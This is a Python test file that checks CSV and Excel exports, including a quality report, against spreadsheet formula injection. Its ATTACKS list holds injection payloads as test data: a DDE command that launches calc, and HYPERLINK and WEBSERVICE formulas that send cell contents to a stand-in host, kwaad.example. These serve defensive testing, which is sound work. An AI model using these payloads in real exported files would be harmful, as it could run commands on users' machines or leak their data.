"""No cell of any file that we write is calculated by the spreadsheet that opens it, whatever somebody typed."""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from evals.golden import separated, workbook

ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://kwaad.example?"&A1;"klik")',
    "\t=1+1", "\r=1+1", "'=1+1", "''=1+1", "+32 9 264 12 34", '=WEBSERVICE("http://kwaad.example")',
    "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "﹦1+1", "−1+1", "%0A=1+1", 'tekst";=1+1', "tekst\n=1+1",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
"""With which a spreadsheet begins a formula, as OWASP lists them, the wide ones of East Asia among them."""


def calculated(file: Path) -> list[str]:
    """Return the cells of a workbook that would be calculated, or become so once somebody edits them."""
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in openpyxl.load_workbook(file).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in STARTS and not cell.quotePrefix)
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_file_is_a_formula(tmp_path: Path, attack: str) -> None:
    file = tmp_path / "vragen.csv"
    separated.write(file, [["vraag", attack, "x"], [attack, attack, attack]])
    written = file.read_bytes().decode("utf-8-sig")
    for row in csv.reader(io.StringIO(written, newline=""), delimiter=";"):
        for cell in row:
            assert not cell.lstrip(" \n\u00a0\ufeff").startswith(STARTS), repr(cell)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_workbook_is_a_formula(tmp_path: Path, attack: str) -> None:
    file = tmp_path / "vragen.xlsx"
    workbook.write(file, ["vraag", attack], [[attack, attack]], widths=[20, 20], lists={0: [attack, "b"]},
                   explanation=[[attack], [attack, attack]])  # fmt: skip
    assert calculated(file) == []
    workbook.write_tables(tmp_path / "tabellen.xlsx", {"een": [["titel", attack], [attack, 1.5]]}, [20, 20])
    assert calculated(tmp_path / "tabellen.xlsx") == []


@pytest.mark.parametrize("attack", ATTACKS[:6])
def test_no_cell_of_the_quality_report_is_a_formula(tmp_path: Path, attack: str) -> None:
    from dataclasses import replace

    from assistant.records import Records, turns, verdicts
    from assistant.records.kept import Verdict
    from evals.review.quality import quality
    from evals.review.telling import as_excel, told
    from tests.assistant.records.conftest import answer

    records = Records.open(f"sqlite:///{tmp_path}/records.sqlite")
    made = replace(answer(attack, cites=(("=gids.pdf", "p1"),)), lead=attack)
    turn = turns.log(records, made, conversation="a", channel="chat", generation="g1", at=datetime.now(UTC))
    verdicts.give(records, turn, attack[:40], Verdict.WRONG, note=attack)
    found = quality(turns.find(records).items, verdicts.all_of(records))
    file = tmp_path / "verslag.xlsx"
    file.write_bytes(as_excel(found, told(found, attack)))
    assert calculated(file) == []
    held = {cell.value for sheet in openpyxl.load_workbook(file) for row in sheet.iter_rows() for cell in row}
    assert attack in held, "the words are there, as words"
